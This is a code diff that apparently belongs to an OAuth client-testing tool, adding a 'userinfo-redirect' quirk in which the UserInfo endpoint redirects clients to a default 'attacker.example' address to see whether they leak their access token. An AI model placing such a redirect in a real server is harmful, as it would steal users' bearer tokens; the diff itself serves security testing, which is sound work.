@@ -2,7 +2,7 @@
 
 use serde_json::Value;
 
-use super::answer::web_page;
+use super::answer::{redirect, web_page};
 use super::value::{NOT_TEXT, retype};
 use super::{Parameter, Quirk};
 use crate::message::Message::UserInfo;
@@ -49,6 +49,25 @@ pub(super) static USERINFO_HTML: Quirk = Quirk {
     parameter: Parameter::Flag,
     touches: &[(UserInfo, "body"), (UserInfo, "content-type")],
     apply: |draft, _, _| web_page(draft),
+};
+
+/// What tells who was sent here from who came by themselves.
+const FOLLOWED: &str = "followed";
+
+/// Somewhere else.
+pub(super) static USERINFO_REDIRECT: Quirk = Quirk {
+    name: "userinfo-redirect",
+    text: "The UserInfo endpoint sends the client to this address, with `followed=1` as its query; whoever still shows \
+           the access token there gives it away.",
+    requirement: "RFC 6750 §5.3",
+    parameter: Parameter::Text { default: "https://attacker.example/userinfo" },
+    touches: &[(UserInfo, "status"), (UserInfo, "location"), (UserInfo, "body")],
+    apply: |draft, argument, scene| {
+        // If it is this endpoint by another name, there is an answer there.
+        if scene.parameter(FOLLOWED).is_none() {
+            redirect(draft, 302, &format!("{}?{FOLLOWED}=1", argument.text()));
+        }
+    },
 };
 
 /// `sub` is not text.
